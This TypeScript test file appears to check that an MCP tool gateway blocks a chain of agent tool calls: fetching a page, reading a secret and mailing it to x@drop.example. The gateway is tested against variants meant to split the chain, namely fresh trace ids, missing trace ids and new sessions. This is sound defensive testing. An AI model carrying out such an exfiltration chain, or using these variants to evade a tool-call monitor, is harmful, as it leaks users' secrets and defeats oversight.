import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { until } from '../support/gateway/gateway-rig.ts';
import { connectLegacy, type TestClient } from '../support/gateway/mcp-clients.ts';
import { armed, formsBeforeHttp, inScene, mailsSeen, type Scene } from '../support/gateway/scenes.ts';

interface Step {
  readonly tool: string;
  readonly args: Record<string, unknown>;
}

/** Makes one call under the identity that the test is about. */
type Caller = (scene: Scene, step: Step) => ReturnType<TestClient['call']>;

const withFreshTrace: Caller = ({ client }, { tool, args }) => {
  const traceparent = `00-${randomBytes(16).toString('hex')}-${randomBytes(8).toString('hex')}-01`;
  return client.call(tool, args, { meta: { traceparent } });
};

const withoutTrace: Caller = ({ client }, { tool, args }) => client.call(tool, args);

const inFreshSession: Caller = async ({ rig }, { tool, args }) => {
  const client = await connectLegacy(rig.url);
  try {
    await client.tools();
    return await client.call(tool, args);
  } finally {
    await client.close();
  }
};

/** The chain, each link of which carries what the link before it told; then what `body` says to the mail. */
async function playChain(scene: Scene, call: Caller, body: (secret: string) => string) {
  const page = await call(scene, { tool: 'fetch_webpage', args: { url: 'https://news.example/today' } });
  const entry = /entry-[0-9a-f]+/.exec(page.text)?.[0];
  const { text: secret } = await call(scene, { tool: 'get_secret', args: { entry } });
  await armed(scene.rig);
  return call(scene, { tool: 'send_mail', args: { to: 'x@drop.example', body: body(secret) } });
}

const [[, legacy]] = formsBeforeHttp;
const cases = [
  ...formsBeforeHttp.map(
    ([name, form]) => [`${name}, with a fresh traceparent for each call`, form, withFreshTrace] as const,
  ),
  ...formsBeforeHttp.map(([name, form]) => [`${name}, with no traceparent`, form, withoutTrace] as const),
  ['with a fresh session for each call', legacy, inFreshSession] as const,
];

describe.each(cases)('a chain %s', (_name, form, call) => {
  it('is refused when the last call carries the secret', async () => {
    await inScene(form, async (scene) => {
      const answer = await playChain(scene, call, (secret) => `it is ${secret}`);
      expect(answer).toMatchObject({ isError: true, refusal: { refused: true } });
      expect(mailsSeen(scene)).toBe(0);
    });
  });

  it('goes on when it does not', async () => {
    await inScene(form, async (scene) => {
      expect(await playChain(scene, call, () => 'all is well')).toMatchObject({ isError: false, text: 'sent' });
      await until(() => mailsSeen(scene) === 1);
    });
  });
});
